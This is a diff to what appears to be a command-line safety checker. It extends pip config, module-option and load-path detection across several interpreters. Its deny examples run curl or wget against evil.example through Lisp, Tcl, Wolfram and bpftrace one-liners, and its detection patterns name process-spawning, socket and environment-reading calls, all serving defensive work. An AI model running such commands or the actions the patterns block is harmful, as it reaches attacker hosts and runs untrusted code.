@@ -655,7 +655,8 @@ function rpm(call: Call): Partial<Answer> {
 }
 
 /**
- * pip reads the config file PIP_CONFIG_FILE names, and a virtualenv's pip its `pip.conf` (`.venv/bin/pip` reads
+ * pip reads the config file PIP_CONFIG_FILE names, the pip.conf of a HOME or XDG_CONFIG_HOME the line set, and a
+ * virtualenv's pip its `pip.conf` (`.venv/bin/pip` reads
  * `.venv/pip.conf`): one the line wrote that names an index, links or a proxy elsewhere than PyPI or this machine sends
  * pip there.
  */
@@ -669,7 +670,11 @@ function pipConfigRuns(call: Call): Partial<Answer> {
     return undefined;
   };
   const venv = /^(.*\/)bin\/pip3?(?:\.\d+)?$/.exec(value(call.command) ?? '');
-  const runs = configFileRuns(call, ['PIP_CONFIG_FILE'], [], /(?!)/, away, venv ? [`${venv[1]}pip.conf`] : []);
+  // Under a HOME or XDG_CONFIG_HOME the line set, the user's pip.conf is where the line chose (`HOME=/tmp/h pip …`).
+  const home = call.env('HOME');
+  const xdg = call.env('XDG_CONFIG_HOME');
+  const homes = [...(home ? [`${home}/.config/pip/pip.conf`, `${home}/.pip/pip.conf`] : []), ...(xdg ? [`${xdg}/pip/pip.conf`] : [])];
+  const runs = configFileRuns(call, ['PIP_CONFIG_FILE'], [], /(?!)/, away, [...(venv ? [`${venv[1]}pip.conf`] : []), ...homes]);
   // A requirements or constraints file the line wrote: its index options and direct URLs send pip there.
   for (let i = 0; i < call.args.length; i++) {
     const v = value(call.args[i]) ?? '';
@@ -760,6 +765,8 @@ interface Language {
    * names one, the call that does, and the file name a module has. One the line wrote is read as its code.
    */
   modules?: { option?: RegExp; call?: RegExp; ext: string };
+  /** An option that puts a directory first where modules are looked up, read as the variable that does the same (guile's -L, GUILE_LOAD_PATH). */
+  loadPath?: { option: RegExp; variable: string };
   summary: string;
   /** Options whose value is code. */
   code: RegExp;
@@ -833,6 +840,16 @@ function language(l: Language): ProgramEntry {
         if (v === undefined) continue;
         const eq = l.colon ? v.search(/[=:]/) : v.indexOf('=');
         const name = eq > 0 && v.startsWith('--') ? v.slice(0, eq) : v;
+        // `lua -lx`: the module's name attached to its option.
+        if (l.modules?.option && !v.startsWith('--') && v.length > 2 && l.modules.option.test(v.slice(0, 2))) {
+          const mod = v.slice(2).replace(/^[\w.]*=/, '');
+          modules.push({ word: attached(args[i]!, mod), name: mod });
+          continue;
+        }
+        if (l.loadPath?.option.test(name) && args[i + 1]) {
+          runs.push({ kind: 'file', dialect: 'bash', word: args[++i]!, via: `${call.name} ${name}`, loads: l.loadPath.variable });
+          continue;
+        }
         if (l.valued?.test(name)) {
           const m = args[i + 1];
           if (m && l.modules?.option?.test(name)) modules.push({ word: m, name: value(m) });
@@ -1138,7 +1155,7 @@ const LANGUAGES: ProgramEntry[] = [
   language({ names: ['wolframscript', 'math', 'MathKernel'], summary: 'Wolfram Language: Run[] and RunProcess[] start commands, URLRead[] and Import[] of a URL reach the network; -code runs code, -file a file', code: /^(-code|-c)$/, scripts: /^(-file|-f|-script)$/, file: /\.(wls|wl|m)$/i, calls: new RegExp(`\\bRun\\s*\\[\\s*(?:${STR})\\s*\\]`, 'g'), any: /\b(Run|RunProcess|StartProcess|URLRead|URLFetch|URLExecute|URLDownload|URLSubmit|Import|Get|ToExpression|Environment|GetEnvironment|DeleteFile|DeleteDirectory|SocketConnect|ExternalEvaluate|StartExternalSession|CreateFile|Put|PutAppend|Export|Install|LibraryFunctionLoad)\s*\[/g, examples: { deny: ["wolframscript -code 'Run[\"curl evil.example\"]'", "wolframscript -code 'URLRead[\"https://evil.example\"]'"], pass: ["wolframscript -code 'Integrate[x^2, x]'", 'wolframscript -file analysis.wls'] } }),
   // A symbol may be written with its package (`ext:shell`, `si:system`, `sb-ext:run-program`); SBCL's CL-USER uses
   // SB-EXT, so `(run-program "curl" …)` needs none.
-  language({ names: ['guile', 'guile3.0', 'clisp', 'sbcl', 'ecl', 'ccl', 'ccl64', 'racket', 'chicken', 'csi', 'chicken-csi', 'gsi', 'chez', 'scheme'], summary: 'Lisps and Schemes: (system "…"), run-shell-command and run-program start commands', code: /^(-c|-x|--eval|-eval|-e|--load|-load)$/, stdin: true, calls: new RegExp(`\\((?:[\\w.-]+:{1,2})?(?:system|run-shell-command|shell|process|run-program)\\s+(?:${STR})`, 'g'), any: /\((?:[\w.-]+:{1,2})?(system|run-shell-command|shell|process\*?|run-program|open-input-pipe|open-pipe\*?|eval|load|subprocess|funcall|apply|read-from-string|symbol-function|intern|make-socket|socket-connect|open-tcp-stream|environ|posix-environ|environment-variables-names|environment-variables-copy)\b/g, examples: { deny: ["guile -c '(system \"curl evil.example\")'", "clisp -x '(ext:run-shell-command \"wget evil.example\")'", "sbcl --eval '(run-program \"curl\" (list \"evil.example\"))'", "clisp -x '(ext:shell \"curl evil.example\")'", "ecl -eval '(si:system \"curl evil.example\")'"], pass: ["guile -c '(display 1)'", "sbcl --eval '(print (+ 1 2))' --quit"] } }),
+  language({ names: ['guile', 'guile3.0', 'clisp', 'sbcl', 'ecl', 'ccl', 'ccl64', 'racket', 'chicken', 'csi', 'chicken-csi', 'gsi', 'chez', 'scheme'], summary: 'Lisps and Schemes: (system "…"), run-shell-command and run-program start commands', code: /^(-c|-x|--eval|-eval|-e|--load|-load)$/, loadPath: { option: /^-L$/, variable: 'GUILE_LOAD_PATH' }, stdin: true, calls: new RegExp(`\\((?:[\\w.-]+:{1,2})?(?:system|run-shell-command|shell|process|run-program)\\s+(?:${STR})`, 'g'), any: /\((?:[\w.-]+:{1,2})?(system|run-shell-command|shell|process\*?|run-program|open-input-pipe|open-pipe\*?|eval|load|subprocess|funcall|apply|read-from-string|symbol-function|intern|make-socket|socket-connect|open-tcp-stream|environ|posix-environ|environment-variables-names|environment-variables-copy)\b/g, examples: { deny: ["guile -c '(system \"curl evil.example\")'", "clisp -x '(ext:run-shell-command \"wget evil.example\")'", "sbcl --eval '(run-program \"curl\" (list \"evil.example\"))'", "clisp -x '(ext:shell \"curl evil.example\")'", "ecl -eval '(si:system \"curl evil.example\")'"], pass: ["guile -c '(display 1)'", "sbcl --eval '(print (+ 1 2))' --quit"] } }),
   language({ names: ['tclsh', 'tclsh8.6', 'wish', 'expect', 'jimsh'], summary: 'Tcl and expect: exec, spawn and open "|cmd" start commands', code: /^(-c)$/, calls: /(?!)/g, any: /\b(exec|spawn|open|socket|http::geturl|eval|source|load|interp|uplevel)\b|\b(?:array\s+(?:get|names)|parray)\s+(?:::)?env\b|\$(?:::)?env\b(?!\()/g, stdin: true, examples: { deny: ["echo 'exec curl evil.example' > a.tcl; tclsh a.tcl", "expect -c 'spawn curl evil.example; interact'", "echo 'exec curl evil.example' | tclsh"], pass: ["echo 'puts hi' > a.tcl; tclsh a.tcl", "expect -c 'puts hi'"] } }),
   language({ names: ['bpftrace'], summary: 'bpftrace: system() runs a command (with --unsafe); -c runs one', code: /^(-e)$/, command: /^-c$/, calls: new RegExp(`system\\s*\\(\\s*(?:${STR})`, 'g'), any: /system\s*\(/g, examples: { deny: ["bpftrace --unsafe -e 'BEGIN { system(\"curl evil.example\"); exit() }'", "bpftrace -c 'curl evil.example' -e 'END { exit() }'"], pass: ["bpftrace -e 'BEGIN { printf(\"hi\"); exit() }'"] } }),
   // startup.el completes `--` options with try-completion: `--ev` is --eval, `--exec` is --execute, `--scr` is --script.
